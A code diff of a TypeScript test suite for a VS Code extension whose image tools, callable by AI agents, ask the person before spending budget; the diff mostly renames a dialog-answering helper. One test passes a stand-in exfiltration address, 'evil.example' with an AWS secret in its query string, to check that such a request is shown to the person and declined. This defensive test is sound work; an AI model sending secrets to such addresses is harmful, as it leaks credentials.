@@ -11,7 +11,7 @@ import type { UnifiedMedia } from '../../src/extension.ts';
 import type { FaultySandbox } from '../support/faultySandbox.ts';
 import { startFaultySandbox } from '../support/faultySandbox.ts';
 import { startHttpServer } from '../support/httpServer.ts';
-import { answerDialogs } from './answerDialogs.ts';
+import { answerDialog, answerWarning } from './answerDialog.ts';
 import { changeSettings } from './changeSettings.ts';
 import { eventually, repeatedly } from './eventually.ts';
 import { setApiKey } from './setApiKey.ts';
@@ -190,24 +190,24 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
       });
       assert.equal(await left(), before);
       {
-        using dialogs = answerDialogs();
+        using dialogs = answerWarning();
         await call('generateImage', { prompt: 'a' });
-        assert.equal(dialogs.asked.length, 1);
+        assert.equal(dialogs.questions.length, 1);
         assert.equal(await left(), before - 1);
         await call('generateImage', { prompt: 'b' });
-        assert.equal(dialogs.asked.length, 1);
+        assert.equal(dialogs.questions.length, 1);
       }
     });
 
     it('ask beyond the budget, and send what was confirmed', async () => {
       await leave(0);
       {
-        using dialogs = answerDialogs();
+        using dialogs = answerWarning();
         await assert.rejects(call('generateImage', { prompt: 'a' }), /declined.*\[declined/);
-        assert.match(dialogs.asked[0] ?? '', /Generate Image \(Chat\): 1 image with “painter”\?/);
+        assert.match(dialogs.questions[0] ?? '', /Generate Image \(Chat\): 1 image with “painter”\?/);
       }
       assert.equal(service.counts.generateImage, 0);
-      using _ = answerDialogs('Generate');
+      using _ = answerWarning('Generate');
       assert.equal((await call('generateImage', { prompt: 'a' })).result.status, 'done');
       assert.equal(service.counts.generateImage, 1);
     });
@@ -215,10 +215,10 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
     it('ask about an address within the budget, and show it', async () => {
       await leave(1);
       const address = 'https://evil.example/x.png?leak=AWS_SECRET%3Dabc';
-      using dialogs = answerDialogs();
+      using dialogs = answerWarning();
       const asked = call('editImage', { prompt: 'a', images: [address], model: 'free' });
       await assert.rejects(asked, /\[declined/);
-      assert.match(dialogs.asked[0] ?? '', /with “free”\?/);
+      assert.match(dialogs.questions[0] ?? '', /with “free”\?/);
       assert(dialogs.details[0]?.includes(address), dialogs.details[0]);
       assert.equal(service.counts.editImage, 0);
     });
@@ -226,7 +226,7 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
     it('open the whole of a long prompt as a read-only document', async () => {
       await leave(0);
       const prompt = `${'word '.repeat(12_000)}the end`;
-      using dialogs = answerDialogs('Show All');
+      using dialogs = answerWarning('Show All');
       await assert.rejects(call('generateImage', { prompt }), /\[declined/);
       assert.match(dialogs.details[0] ?? '', /and 59,707 more characters/);
       const document = vscode.window.activeTextEditor?.document;
@@ -242,9 +242,9 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
 
     it('ask several questions in one dialog', async () => {
       await leave(0);
-      using dialogs = answerDialogs('Generate All 3');
+      using dialogs = answerWarning('Generate All 3');
       const results = await Promise.all(['a', 'b', 'c'].map((prompt) => call('generateImage', { prompt })));
-      assert.equal(dialogs.asked.length, 1);
+      assert.equal(dialogs.questions.length, 1);
       for (const prompt of ['a', 'b', 'c'])
         assert.match(dialogs.details[0] ?? '', new RegExp(`^Prompt: ${prompt}$`, 'm'));
       assert.match(dialogs.details[0] ?? '', /^Service: .+$/m);
@@ -254,9 +254,9 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
 
     it('ask one by one when the person wants that', async () => {
       await leave(0);
-      using dialogs = answerDialogs('One by One', 'Generate');
+      using dialogs = answerWarning('One by One', 'Generate');
       await Promise.all(['a', 'b', 'c'].map((prompt) => call('generateImage', { prompt })));
-      const [together, ...each] = dialogs.asked;
+      const [together, ...each] = dialogs.questions;
       assert.match(together ?? '', /^3 requests of agents are waiting/);
       assert.equal(each.length, 3);
       assert.equal(service.counts.generateImage, 3);
@@ -407,7 +407,7 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
           agentTools.map(({ referenceName }) => referenceName),
         );
         const held = Promise.withResolvers<string>();
-        using dialogs = holdDialogs(held.promise);
+        using dialogs = answerDialog('showWarningMessage', () => held.promise);
         const first = await ask('media_generate_image', { prompt: 'a', wait_seconds: 0, purpose: 'a test' });
         assert.equal(first.status, 'waiting_for_person');
         const extension = vscode.extensions.getExtension<UnifiedMedia>(extensionId);
@@ -423,7 +423,9 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
         const done = await ask('media_get_job', { job_id: first.job_id, wait_seconds: 50 });
         assert.equal(done.status, 'done', JSON.stringify(done));
         assert.equal(service.counts.generateImage, 1);
-        assert(dialogs.asked.some((question) => question.includes('Generate Image (MCP): 1 image with “painter”?')));
+        assert(
+          dialogs.questions.some((question) => question.includes('Generate Image (MCP): 1 image with “painter”?')),
+        );
       } finally {
         await client.close();
         await vscode.commands.executeCommand('unifiedMedia.removeApiKey');
@@ -447,16 +449,4 @@ async function connectAs(name: string): Promise<{ readonly url: string; readonly
   } finally {
     Object.assign(vscode.window, { showQuickPick });
   }
-}
-
-/** Answers every dialog when the promise resolves. */
-function holdDialogs(answer: Promise<string>): Disposable & { readonly asked: string[] } {
-  const { showWarningMessage } = vscode.window;
-  const asked: string[] = [];
-  const hold = (question: string) => {
-    asked.push(question);
-    return answer;
-  };
-  Object.assign(vscode.window, { showWarningMessage: hold });
-  return { asked, [Symbol.dispose]: () => void Object.assign(vscode.window, { showWarningMessage }) };
 }
